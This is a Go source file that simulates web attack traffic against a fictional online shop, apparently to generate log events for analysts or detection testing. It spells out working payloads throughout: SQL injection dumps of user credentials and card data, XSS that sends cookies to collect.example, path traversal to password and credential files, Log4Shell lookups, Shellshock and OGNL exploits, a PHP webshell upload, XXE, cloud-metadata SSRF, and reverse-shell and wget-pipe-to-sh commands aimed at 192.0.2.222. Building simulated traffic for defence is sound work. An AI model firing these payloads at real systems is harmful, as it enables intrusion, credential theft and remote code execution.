package traffic

import (
	"encoding/json"
	"math/rand/v2"
	"net/url"
	"strconv"
	"strings"
	"time"
)

// An attacker is a tool or a person with bad intentions. steps gives one visit,
// never the same twice.
type attacker struct {
	name   string
	addrs  []string
	header []string
	steps  func(*rand.Rand) []step
}

func tool(agent string, more ...string) []string {
	return append([]string{"User-Agent", agent, "Accept", "*/*"}, more...)
}

// attackers lists everyone who comes. To add one, add a line and its function.
func attackers() []attacker {
	byHand := chromium("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36", `"Chromium";v="141", "Not?A_Brand";v="8"`, `"Linux"`, "?0", "en-US,en;q=0.9")
	return []attacker{
		{"sqlmap", []string{"203.0.113.66"}, tool("sqlmap/1.8.4#stable (https://sqlmap.org)", "Cache-Control", "no-cache"), sqlTool},
		{"nikto", []string{"198.51.100.201"}, tool("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"), nikto},
		{"nuclei", []string{"192.0.2.200"}, tool("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "Accept-Encoding", "gzip"), nuclei},
		{"curl scripts", []string{"203.0.113.9"}, tool("curl/8.9.1"), curlScripts},
		{"cross-site scripting by hand", []string{"2001:db8:bad::7"}, byHand, scripting},
		{"path traversal fuzzer", []string{"198.51.100.66"}, tool("Fuzz Faster U Fool v2.1.0-dev", "Accept-Encoding", "gzip"), traversal},
		{"log4shell", []string{"203.0.113.200", "203.0.113.201"}, tool("Go-http-client/1.1", "Accept-Encoding", "gzip"), log4shell},
		{"command injection", []string{"192.0.2.222"}, tool("python-requests/2.32.3", "Accept-Encoding", "gzip, deflate"), commands},
		{"request forgery", []string{"198.51.100.140"}, tool("python-httpx/0.27.2", "Accept-Encoding", "gzip, deflate"), forgery},
		{"webshell scanner", []string{"203.0.113.150", "2001:db8:bad::51"}, tool("Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/60.0.3112.107 Moblie Safari/537.36"), webshells},
		{"credential stuffing", []string{"192.0.2.240", "198.51.100.241", "203.0.113.242", "2001:db8:bad::f3", "198.51.100.244"}, tool("okhttp/4.12.0", "Accept-Encoding", "gzip"), stuffing},
		{"graphql probe", []string{"192.0.2.180"}, tool("graphql-cop/1.14", "Accept-Encoding", "gzip"), graphql},
		{"patient intruder", []string{"198.51.100.7"}, byHand, intruder},
	}
}

func esc(s string) string { return url.QueryEscape(s) }

func form(kv ...string) string {
	v := url.Values{}
	for i := 0; i < len(kv); i += 2 {
		v.Set(kv[i], kv[i+1])
	}
	return v.Encode()
}

func jsonBody(v any) step {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err) // every caller passes maps of strings
	}
	return step{body: string(b), header: []string{"Content-Type", "application/json"}}
}

// some keeps n random ones of steps, in their order.
func some(rng *rand.Rand, n int, steps ...step) []step {
	if n >= len(steps) {
		return steps
	}
	keep := map[int]bool{}
	for _, i := range rng.Perm(len(steps))[:n] {
		keep[i] = true
	}
	var all []step
	for i, s := range steps {
		if keep[i] {
			all = append(all, s)
		}
	}
	return all
}

// digits are the random numbers that tools mark their probes with.
func digits(rng *rand.Rand) string { return strconv.Itoa(1000 + rng.IntN(9000)) }

func sqlTool(rng *rand.Rand) []step {
	n, m := digits(rng), digits(rng)
	at := pick(rng, "/product?id=1", "/search?q=lamp")
	close1, open1 := "", ""
	if strings.Contains(at, "search") {
		close1, open1 = "')", " AND ('a'='a"
	}
	steps := []step{{target: at}, {target: at + esc("("+"'.,\"))(")}}
	for _, p := range []string{
		" AND " + n + "=" + n + open1, " AND " + n + "=" + m + open1,
		" AND EXTRACTVALUE(" + n + ",CONCAT(0x5c,0x7178627671,(SELECT (ELT(" + n + "=" + n + ",1)))))" + open1,
		" AND " + n + "=CAST((CHR(113)||CHR(120))||(SELECT (CASE WHEN (" + n + "=" + n + ") THEN 1 ELSE 0 END))::text AS NUMERIC)" + open1,
		";SELECT PG_SLEEP(5)--", ";WAITFOR DELAY '0:0:5'--", " AND (SELECT " + m + " FROM (SELECT(SLEEP(5)))a)" + open1,
		" ORDER BY 1-- -", " ORDER BY 9-- -",
		" UNION ALL SELECT NULL,NULL,NULL,NULL,NULL,NULL-- -", " UNION ALL SELECT NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL-- -",
		" UNION ALL SELECT NULL,CHAR(113)||COALESCE(tbl_name,CHAR(32))||CHAR(113),NULL,NULL,NULL,NULL,NULL,NULL FROM sqlite_master WHERE type=CHAR(116,97,98,108,101)-- -",
		" UNION ALL SELECT NULL,username||CHAR(58)||password,NULL,NULL,NULL,NULL,NULL,NULL FROM users-- -",
		" UNION ALL SELECT NULL,email||CHAR(58)||card,NULL,NULL,NULL,NULL,NULL,NULL FROM users LIMIT " + strconv.Itoa(rng.IntN(8)) + ",1-- -",
	} {
		steps = append(steps, step{target: at + esc(close1+p)})
	}
	body := jsonBody(map[string]string{"q": "x') UNION ALL SELECT id,username,password,email,card,0 FROM users-- "})
	body.target = "/api/search"
	return append(steps, body, step{target: "/api/products/1%20OR%201=1%20UNION%20SELECT%20NULL,sql,NULL,NULL,NULL,NULL,NULL,NULL%20FROM%20sqlite_master--"})
}

func nikto(rng *rand.Rand) []step {
	var steps []step
	for i, p := range []string{
		"/", "/robots.txt", "/.htaccess", "/.git/HEAD", "/.git/config", "/.env", "/.svn/entries", "/admin/", "/server-status", "/phpinfo.php", "/phpmyadmin/",
		"/cgi-bin/test-cgi", "/cgi-bin/printenv", "/backup.sql", "/backup.zip", "/config.php.bak", "/web.config", "/WEB-INF/web.xml", "/.DS_Store", "/crossdomain.xml",
		"/index.php?page=../../../../../../../../../../etc/passwd", "/?mod=<script>alert(document.domain)</script>&op=browse", "/scripts/..%255c..%255cwinnt/system32/cmd.exe?/c+dir",
		"/search?q=%3Cscript%3Ealert('Vulnerable')%3C%2Fscript%3E", "/download?file=../../../../etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/%2e%2e/%2e%2e/etc/shadow",
		"/.ssh/id_rsa", "/.aws/credentials", "/composer.json", "/wp-config.php~",
	} {
		steps = append(steps, step{target: p, header: []string{"User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:" + strconv.Itoa(6000+i) + ")"}})
	}
	return some(rng, 22, steps...)
}

func nuclei(rng *rand.Rand) []step {
	ognl := "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/bash','-c',#cmd})).(#process=#p.start())}"
	return some(
		rng, 9,
		step{target: "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"},
		step{target: "/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd"},
		step{target: "/", header: []string{"Content-Type", ognl}},
		step{target: "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=" + esc("%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){")},
		step{target: "/functionRouter", body: "x=1", header: []string{"spring.cloud.function.routing-expression", `T(java.lang.Runtime).getRuntime().exec("id")`}},
		step{target: "/actuator/env"},
		step{target: "/solr/admin/info/system?wt=json"},
		step{target: "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", body: "<?php echo md5('probe'); ?>"},
		step{target: "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id"},
		step{target: "/search?q=" + esc("{{7*7}}${7*7}<%= 7*7 %>")},
		step{target: "/search?q=" + esc("'\"><svg onload=confirm("+digits(rng)+")>")},
		step{target: "/?redirect=//evil.example/%2f.."},
		step{target: "/api/v1/users?fields=" + esc("(select*from(select(sleep(6)))a)")},
	)
}

func curlScripts(rng *rand.Rand) []step {
	return some(
		rng, 8,
		step{target: "/"},
		step{target: "/login", body: form("user", "admin' OR '1'='1", "password", "x")},
		step{target: "/login", body: form("user", "admin'--", "password", "x")},
		step{target: "/search?q=" + esc("' OR 1=1 -- ")},
		step{target: "/product?id=1%20OR%201=1"},
		step{target: "/download?file=../secrets/config.ini"},
		step{target: "/download?file=../../../../etc/passwd"},
		step{target: "/tools/ping?host=127.0.0.1;cat+/etc/passwd"},
		step{target: "/product?id=" + esc("0 UNION SELECT 1,username,password,4,5,6,7,8 FROM users")},
		step{target: "/", header: []string{"Host", "127.0.0.1"}},
		step{method: "TRACE", target: "/"},
		step{target: "/preview?url=http://127.0.0.1/internal/metadata"},
	)
}

func scripting(rng *rand.Rand) []step {
	var steps []step
	for i, p := range []string{
		`lamp`, `<b>lamp</b>`, `<script>alert(1)</script>`, `"><script>alert(document.cookie)</script>`, `<img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`,
		`<body onpageshow=alert(1)>`, `javascript:alert(1)//`, `<iframe src="javascript:alert(1)">`, `<ScRiPt>prompt(document.domain)</ScRiPt>`, `<details open ontoggle=alert(1)>`,
		`<a href="jav&#x09;ascript:alert(1)">x</a>`, `'-alert(1)-'`, `<script>fetch('//collect.example/?c='+document.cookie)</script>`, `<math><mtext></mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src>">`,
	} {
		steps = append(steps, step{target: "/search?q=" + esc(p), think: between(rng, 400*time.Millisecond, 2500*time.Millisecond), header: []string{"Referer", site + "/search?q=" + strconv.Itoa(i)}})
	}
	steps = some(rng, 8, steps...)
	return append(
		steps,
		step{target: "/product?id=23", think: time.Second},
		step{target: "/reviews", body: form("product", "23", "author", "Eve", "stars", "5", "text", `Great!<script>console.log(document.cookie)</script>`), think: 2 * time.Second},
		step{target: "/reviews", body: form("product", "23", "author", `<img src=x onerror="console.log('eve')">`, "stars", "4", "text", "Lovely."), think: 2 * time.Second},
	)
}

func traversal(rng *rand.Rand) []step {
	var steps []step
	for _, up := range []string{"../", "..%2f", "%2e%2e%2f", "..%252f", "....//", "..\\", "..%5c", "%c0%ae%c0%ae/"} {
		for _, file := range []string{"etc/passwd", "secrets/payment.key", "etc/shadow", "proc/self/environ", "secrets/config.ini", "var/log/apache2/access.log"} {
			steps = append(steps, step{target: "/download?file=" + strings.Repeat(up, 1+rng.IntN(6)) + file})
		}
	}
	return some(rng, 18, append(steps, step{target: "/static/../../../../etc/passwd"}, step{target: "/download?file=php://filter/convert.base64-encode/resource=index"}, step{target: "/download?file=file:///etc/passwd"})...)
}

func log4shell(rng *rand.Rand) []step {
	id := digits(rng)
	lookup := func(s string) string { return strings.ReplaceAll(s, "HOST", "x"+id+".callback.example") }
	plainLookup, hidden, deep := lookup("${jndi:ldap://HOST/a}"), lookup("${${lower:j}ndi:${lower:l}dap://HOST/b}"), lookup("${${::-j}${::-n}${::-d}${::-i}:rmi://HOST/c}")
	return []step{
		{target: "/", header: []string{"User-Agent", plainLookup}},
		{target: "/", header: []string{"Referer", plainLookup, "X-Api-Version", hidden}},
		{target: "/search?q=" + esc(plainLookup)},
		{target: "/search?q=" + esc(hidden)},
		{target: "/login", body: form("user", plainLookup, "password", deep)},
		{target: "/account", header: []string{"Cookie", "session=" + deep}},
		{target: "/api/search", body: `{"q":"` + lookup("${jndi:dns://HOST/d}") + `"}`, header: []string{"Content-Type", "application/json"}},
		{target: "/", header: []string{"Authorization", "Bearer " + lookup("${jndi:ldap://127.0.0.1#HOST/e}")}},
	}
}

func commands(rng *rand.Rand) []step {
	n := digits(rng)
	var steps []step
	for _, p := range []string{
		"127.0.0.1", "127.0.0.1;id", "127.0.0.1|id", "127.0.0.1&&whoami", "$(id)", "`id`", "127.0.0.1;cat /etc/passwd", "127.0.0.1;cat${IFS}secrets/payment.key", "127.0.0.1%0aid",
		"127.0.0.1;echo PROBE$((" + n + "+1))$(echo PROBE)", "127.0.0.1;sleep 1", "127.0.0.1;uname -a;ls -la /", "127.0.0.1|nc -e /bin/sh 192.0.2.222 4444",
		"127.0.0.1;bash -i >& /dev/tcp/192.0.2.222/4444 0>&1", "127.0.0.1;wget http://192.0.2.222/x.sh -O- | sh", "127.0.0.1;c\\at /e??/p?sswd", "127.0.0.1;python3 -c 'import os;os.system(\"id\")'",
	} {
		steps = append(steps, step{target: "/tools/ping?host=" + esc(p)})
	}
	steps = append(steps, step{target: "/", header: []string{"User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"}})
	return some(rng, 12, steps...)
}

func forgery(rng *rand.Rand) []step {
	var steps []step
	for _, p := range []string{
		"http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/lantern-shop-role",
		"http://127.0.0.1/internal/metadata", "http://localhost/internal/metadata", "http://2130706433/internal/metadata", "http://0177.0.0.1/internal/metadata", "http://[::1]/internal/metadata",
		"http://127.0.0.1:6379/", "http://127.0.0.1:22/", "http://metadata.google.internal/computeMetadata/v1/", "gopher://127.0.0.1:6379/_INFO", "file:///etc/passwd", "http://100.100.100.200/latest/meta-data/",
	} {
		steps = append(steps, step{target: "/preview?url=" + esc(p)})
	}
	return some(rng, 10, steps...)
}

func webshells(rng *rand.Rand) []step {
	var steps []step
	for _, p := range []string{
		"/wp-login.php", "/xmlrpc.php", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", "/shell.php?cmd=id", "/c99.php", "/r57.php", "/alfa.php", "/wso.php",
		"/uploads/shell.php?cmd=cat+/etc/passwd", "/images/up.php.jpg", "/.env", "/.env.production", "/.git/config", "/config/database.yml", "/vendor/.env", "/wp-config.php.bak",
		"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)", "/index.php?lang=../../../../tmp/x&cmd=system('id')", "/eval.php?code=phpinfo();", "/?a=fetch&content=<php>die(@md5(HelloThinkCMF))</php>",
	} {
		steps = append(steps, step{target: p})
	}
	steps = append(steps, step{target: "/upload.php", body: form("name", "x.php", "data", "<?php system($_GET['cmd']); ?>")}, step{target: "/xmlrpc.php", body: "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><methodCall><methodName>&e;</methodName></methodCall>", header: []string{"Content-Type", "text/xml"}})
	return some(rng, 14, steps...)
}

func stuffing(rng *rand.Rand) []step {
	users := []string{"admin", "anna", "tom", "marie", "kenji", "lucia", "piotr", "info", "test", "root", "sales", "ida", "packer"}
	passwords := []string{"123456", "password", "qwerty123", "Summer2026!", "letmein", "iloveyou", "rosemary", "dragon", "lantern", "admin", "welcome1"}
	var steps []step
	for range 22 {
		steps = append(steps, step{target: "/login", body: form("user", pick(rng, users...), "password", pick(rng, passwords...))})
	}
	for _, trick := range []string{"admin' OR '1'='1", "admin' -- ", "' OR 1=1#"} { // when lists fail
		steps = append(steps, step{target: "/login", body: form("user", trick, "password", "x")})
	}
	return steps
}

func graphql(*rand.Rand) []step {
	var steps []step
	for i, q := range []string{
		`{__typename}`,
		`query IntrospectionQuery { __schema { queryType { name } mutationType { name } types { kind name fields(includeDeprecated: true) { name args { name type { name } } } } } }`,
		`{ products(filter: "1' OR '1'='1' -- ") { id name } }`,
		`{ user(id: "1 UNION SELECT username, password FROM users") { name email } }`,
		`mutation { importPaste(host: "localhost", port: 80, path: "/; cat /etc/passwd", scheme: "http") { result } }`,
		`{ page(url: "http://169.254.169.254/latest/meta-data/") { body } }`,
	} {
		s := jsonBody(map[string]string{"query": q})
		s.target = pick(rand.New(rand.NewPCG(uint64(i), 0)), "/graphql", "/api/graphql", "/v1/graphql")
		steps = append(steps, s)
	}
	return append(steps, step{target: "/graphql?query=" + esc("{__schema{types{name}}}")})
}

// intruder looks first, tries a little, and then takes what is there: the story
// that an analyst should be able to read from the events.
func intruder(rng *rand.Rand) []step {
	slow := func() time.Duration { return between(rng, 700*time.Millisecond, 3*time.Second) }
	var steps []step
	for _, s := range []step{
		{target: "/"},
		{target: "/robots.txt"},
		{target: "/support"},
		{target: "/tools/ping?host=northport.stations.example"},
		{target: "/internal/"},
		{target: "/product?id=2'"},
		{target: "/product?id=2%20AND%201=1"},
		{target: "/product?id=2%20AND%201=2"},
		{target: "/product?id=" + esc("0 UNION SELECT 1,name,3,4,5,6,7,8 FROM sqlite_master")},
		{target: "/product?id=" + esc("0 UNION SELECT 1,group_concat(username||':'||password),3,4,5,6,7,8 FROM users")},
		{target: "/login", body: form("user", "admin", "password", "Lantern!2019")},
		{target: "/account"},
		{target: "/download?file=../secrets/config.ini"},
		{target: "/download?file=../secrets/payment.key"},
		{target: "/preview?url=" + esc("http://169.254.169.254/latest/meta-data/iam/security-credentials/lantern-shop-role")},
		{target: "/tools/ping?host=" + esc("x;id;uname -a;cat /etc/passwd")},
		{target: "/tools/ping?host=" + esc("x;cat secrets/payment.key | base64")},
		{target: "/reviews", body: form("product", "2", "author", "guest", "stars", "5", "text", `Nice lamp <script src="//collect.example/k.js"></script>`)},
	} {
		s.think = slow()
		steps = append(steps, s)
	}
	return steps
}
